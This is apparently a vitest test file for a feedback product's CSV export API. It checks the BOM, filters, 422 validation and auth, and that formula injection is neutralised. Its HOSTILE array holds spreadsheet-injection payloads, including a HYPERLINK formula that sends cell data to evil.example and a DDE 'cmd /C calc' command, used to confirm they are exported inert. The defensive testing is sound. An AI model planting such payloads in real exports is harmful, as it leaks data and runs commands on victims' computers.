import { ErrorBody } from '@closeloop/sdk/schemas';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { recordAnswer } from '../../testing/record-answer.js';
import { useTestApp } from '../../testing/test-app.js';
import { testDialects } from '../../testing/test-dbs.js';

const HOSTILE = ['=HYPERLINK("http://evil.example?"&A1,"Click")', '+cmd|" /C calc"!A0', '-1+2', '@SUM(1,2)', '\t=1+1', '\r=1+1'];

describe.each(testDialects)('CSV exports on $name', ({ open }) => {
  const t = useTestApp({}, open);
  const auth = () => ({ Authorization: `Bearer ${t.shop.secretKey}` });

  async function download(path: string) {
    const res = await t.app.request(path, { headers: auth() });
    expect(res.status, await res.clone().text()).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="(responses|cases)-2026-11-23\.csv"$/);
    const bytes = new Uint8Array(await res.arrayBuffer());
    // The UTF-8 byte order mark, so Excel reads é and ü right.
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parse(new TextDecoder().decode(bytes.slice(3)), { columns: true, relax_quotes: false }) as Record<string, string>[];
    return rows;
  }

  it('exports responses with hostile comments and attributes made inert, UTF-8 kept', async () => {
    for (const [i, text] of HOSTILE.entries()) {
      await recordAnswer(t.db, t.shop.project.id, { score: i % 11, at: `2026-11-20T1${i}:00:00.000Z`, comment: text, attributes: { plan: text } });
    }
    await recordAnswer(t.db, t.shop.project.id, { score: 9, at: '2026-11-21T10:00:00.000Z', comment: 'Très bien, "merci", Grüße\nzweite Zeile' });

    const rows = await download('/api/v1/export/responses.csv');
    expect(rows).toHaveLength(HOSTILE.length + 1);
    expect(rows[0]).toMatchObject({ comment: 'Très bien, "merci", Grüße\nzweite Zeile', nps_score: '9', group: 'promoter', read: '' });
    for (const row of rows.slice(1)) {
      for (const column of ['comment', 'attributes_json', 'answers_json']) expect(row[column], column).not.toMatch(/^[=+\-@\t\r]/);
    }
    // Each hostile comment survives, behind the quote mark a spreadsheet shows as text.
    expect(rows.slice(1).map((row) => row['comment']).sort()).toEqual(HOSTILE.map((text) => `'${text}`).sort());
  });

  it('applies the list filters to the export, all pages of them', async () => {
    for (let i = 0; i < 1_100; i += 1) await recordAnswer(t.db, t.shop.project.id, { score: i % 2 === 0 ? 3 : 10, at: new Date(Date.UTC(2026, 10, 1) + i * 60_000).toISOString() });
    const detractors = await download('/api/v1/export/responses.csv?group=detractor');
    expect(detractors).toHaveLength(550);
    expect(new Set(detractors.map((r) => r['group']))).toEqual(new Set(['detractor']));
    expect(detractors.every((r) => r['case_id'] !== '')).toBe(true);
  }, 60_000);

  it('exports cases with their answers and a hostile comment made inert', async () => {
    await recordAnswer(t.db, t.shop.project.id, { score: 1, at: '2026-11-20T10:00:00.000Z', comment: '=1+1', url: 'https://shop.example/checkout' });
    await recordAnswer(t.db, t.shop.project.id, { score: 10, at: '2026-11-20T11:00:00.000Z' });
    const rows = await download('/api/v1/export/cases.csv');
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ source: 'survey', status: 'open', survey_id: 'nps', score: '1', comment: "'=1+1", page_url: 'https://shop.example/checkout' });
    expect(await download('/api/v1/export/cases.csv?status=resolved')).toHaveLength(0);
  });

  it.each([
    ['/api/v1/export/responses.csv?limit=5', 'limit'],
    ['/api/v1/export/responses.csv?read=true', 'read'],
    ['/api/v1/export/cases.csv?assignee=me', 'assignee'],
    ['/api/v1/export/cases.csv?cursor=x', 'cursor'],
  ])('422 before any byte for %s', async (path, field) => {
    const res = await t.app.request(path, { headers: auth() });
    expect(res.status).toBe(422);
    expect(ErrorBody.parse(await res.json()).error.issues?.map((i) => i.path)).toEqual([field]);
  });

  it('401 without a key', async () => {
    expect((await t.app.request('/api/v1/export/cases.csv')).status).toBe(401);
  });
});
